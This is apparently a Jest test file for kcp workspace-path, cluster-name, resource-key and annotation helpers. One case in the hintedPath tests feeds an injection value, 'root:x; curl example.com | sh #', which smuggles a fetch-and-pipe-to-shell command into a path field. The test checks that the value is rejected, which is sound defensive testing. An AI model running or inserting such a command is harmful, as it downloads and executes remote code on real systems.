import { describe, expect, it } from '@jest/globals';
import {
  apiVersionOf,
  childPath,
  clusterOf,
  compareText,
  hintedPath,
  groupResourceKey,
  groupVersionResourceKey,
  logicalCluster,
  nameOfPath,
  objectKey,
  parseKubeObject,
  parseLogicalClusterName,
  parseWorkspacePath,
  printGroupResource,
  quote,
  splitWorkspacePath,
  timestamp,
  WILDCARD,
  type LogicalClusterName,
  workspacePath,
} from './index.js';

describe(parseLogicalClusterName, () => {
  it.each(['root', '1k7ez4pisisnd9rg', 'system:admin', 'a', '0', 'a'.repeat(63)])('given %j, then it is a name', (text) => {
    expect(parseLogicalClusterName(text)).toEqual({ ok: true, value: text });
  });

  it.each(['', 'root:a', '*', 'Root', '-a', 'a-', 'a/b', 'a'.repeat(64), 'system:', 'x:admin', 'a\n'])(
    'given %j, then the problem quotes it',
    (text) => {
      expect(parseLogicalClusterName(text)).toEqual({ ok: false, problem: expect.stringContaining(quote(text)) });
    },
  );
});

describe(parseWorkspacePath, () => {
  it.each(['root', 'root:providers:network', 'root:1a', '1k7ez4pisisnd9rg:child', 'user:alice'])('given %j, then it is a path', (text) => {
    expect(parseWorkspacePath(text)).toEqual({ ok: true, value: text });
  });

  it.each([
    ['', 1],
    ['root::a', 2],
    ['root:', 2],
    [':root', 1],
    ['root:a:B', 3],
    ['root:a-', 2],
    ['*', 1],
    [`root:${'a'.repeat(64)}`, 2],
  ])('given %j, then the problem names segment %i', (text, segment) => {
    const quoted = quote(text.split(':')[segment - 1]!);

    expect(parseWorkspacePath(text)).toEqual({ ok: false, problem: expect.stringContaining(`segment ${String(segment)} (${quoted}) `) });
  });
});

describe('literals', () => {
  it('given what the parsers take, then the literals are the same values', () => {
    expect(workspacePath('root:a')).toBe('root:a');
    expect(logicalCluster('1k7ez4pisisnd9rg')).toBe('1k7ez4pisisnd9rg');
  });

  it.each([
    { literal: workspacePath, text: 'root:A' },
    { literal: logicalCluster, text: 'root:a' },
  ])('given $text, then $literal.name throws what the parser says', ({ literal, text }) => {
    expect(() => literal(text)).toThrow(TypeError);
    expect(() => literal(text)).toThrow(quote(text));
  });
});

describe(splitWorkspacePath, () => {
  it('given a nested path, then parent and name join to it again', () => {
    const path = workspacePath('root:providers:network');

    const split = splitWorkspacePath(path);

    expect(split).toEqual({ parent: 'root:providers', name: 'network' });
    expect(childPath(split!.parent, split!.name)).toEqual({ ok: true, value: path });
  });

  it('given root, then there is no parent, and the path is a name too', () => {
    expect(splitWorkspacePath(workspacePath('root'))).toBeUndefined();
    expect(nameOfPath(workspacePath('root'))).toBe('root');
    expect(nameOfPath(workspacePath('root:a'))).toBeUndefined();
  });
});

describe(groupResourceKey, () => {
  it('given parts that a dot would confuse, then the keys differ', () => {
    expect(groupResourceKey({ group: 'b.c', resource: 'a' })).not.toBe(groupResourceKey({ group: 'c', resource: 'a.b' }));
  });

  it('given the core group, then people read the resource alone', () => {
    expect(printGroupResource({ group: '', resource: 'secrets' })).toBe('secrets');
    expect(printGroupResource({ group: 'x.io', resource: 'vms' })).toBe('vms.x.io');
  });
});

describe(groupVersionResourceKey, () => {
  it('given a type in two versions, then the keys differ', () => {
    const type = { group: 'x.io', resource: 'vms' };

    expect(['v1', 'v2'].map((version) => groupVersionResourceKey({ ...type, version }))).toEqual(['x.io/v1/vms', 'x.io/v2/vms']);
  });
});

describe(apiVersionOf, () => {
  it.each([
    { group: '', version: 'v1', expected: 'v1' },
    { group: 'x.io', version: 'v1alpha1', expected: 'x.io/v1alpha1' },
  ])('given the group "$group", then apiVersion is $expected', ({ group, version, expected }) => {
    expect(apiVersionOf({ group, version })).toBe(expected);
  });
});

describe(objectKey, () => {
  it('given an object in a namespace or in none, then its key holds every part', () => {
    const vm = { cluster: 'c' as LogicalClusterName, group: 'x.io', resource: 'vms', name: 'a' };

    expect([objectKey(vm), objectKey({ ...vm, namespace: 'n' })]).toEqual(['c/x.io/vms//a', 'c/x.io/vms/n/a']);
  });
});

describe(compareText, () => {
  it.each([
    { texts: ['b', 'a', 'B', 'ab', ''], sorted: ['', 'B', 'a', 'ab', 'b'] },
    { texts: ['ä', 'z', 'a'], sorted: ['a', 'z', 'ä'] },
  ])('given $texts, then they are sorted by code unit', ({ texts, sorted }) => {
    expect(texts.toSorted(compareText)).toEqual(sorted);
    expect(texts.toReversed().toSorted(compareText)).toEqual(sorted);
  });

  it('given two texts, then the first comes before, after, or neither', () => {
    expect([compareText('a', 'b'), compareText('b', 'a'), compareText('a', 'a')]).toEqual([-1, 1, 0]);
  });
});

describe(timestamp, () => {
  it('given a moment, then it is written in whole seconds', () => {
    expect(timestamp(1_700_000_000_999)).toBe('2023-11-14T22:13:20Z');
  });
});

describe(quote, () => {
  it.each([
    { given: 'a text with a line break', text: 'a\n"b"', expected: '"a\\n\\"b\\""' },
    { given: 'a text that has just room', text: 'x'.repeat(78), expected: `"${'x'.repeat(78)}"` },
    { given: 'a longer text', text: 'x'.repeat(79), expected: `"${'x'.repeat(75)}…"` },
  ])('given $given, then it is one line of at most 80 characters', ({ text, expected }) => {
    expect(quote(text)).toBe(expected);
  });
});

describe('the wildcard', () => {
  it('is how kcp addresses every cluster', () => {
    expect(WILDCARD).toBe('*');
  });
});

describe(hintedPath, () => {
  it.each([
    { given: 'a path', path: 'root:providers:network', expected: 'root:providers:network' },
    { given: 'what a shell would run', path: 'root:x; curl example.com | sh #', expected: undefined },
    { given: 'nothing', path: undefined, expected: undefined },
  ])('given $given, then $expected', ({ path, expected }) => {
    expect(hintedPath({ metadata: { annotations: path === undefined ? {} : { 'kcp.io/path': path } } })).toBe(expected);
  });

  it('given an object without annotations, then there is none', () => {
    expect(hintedPath({ metadata: {} })).toBeUndefined();
  });
});

describe(clusterOf, () => {
  it('given the annotation that kcp sets, then it is the name', () => {
    expect(clusterOf({ metadata: { annotations: { 'kcp.io/cluster': 'abc' } } })).toEqual({ ok: true, value: 'abc' });
  });

  it.each([
    { object: { metadata: {} }, problem: 'the object has no annotation kcp.io/cluster' },
    { object: { metadata: { annotations: { 'kcp.io/cluster': 'a/b' } } }, problem: '"a/b" is not a logical cluster name' },
  ])('given $object, then the problem says why', ({ object, problem }) => {
    expect(clusterOf(object)).toEqual({ ok: false, problem: expect.stringContaining(problem) });
  });
});

describe(parseKubeObject, () => {
  it.each([null, 1, 'x', []])('given %j, then it is no object', (value) => {
    expect(parseKubeObject(value)).toEqual({ ok: false, problem: 'expected a JSON object' });
  });

  it.each([{}, { metadata: null }, { metadata: [] }])('given %j, then it has no metadata', (value) => {
    expect(parseKubeObject(value)).toEqual({ ok: false, problem: 'expected a JSON object in .metadata' });
  });

  it('given metadata, then it is an object', () => {
    expect(parseKubeObject({ metadata: {} })).toEqual({ ok: true, value: { metadata: {} } });
  });
});
